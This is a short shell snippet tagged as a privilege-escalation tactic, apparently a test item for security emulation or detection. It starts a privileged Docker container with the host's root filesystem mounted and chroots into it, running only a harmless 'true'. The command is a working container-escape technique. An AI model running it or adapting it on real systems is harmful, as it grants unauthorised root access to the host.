# tactic: privilege-escalation
# start a privileged container with the host's root mounted
docker run --rm --privileged -v /:/host alpine chroot /host true 2>/dev/null; true
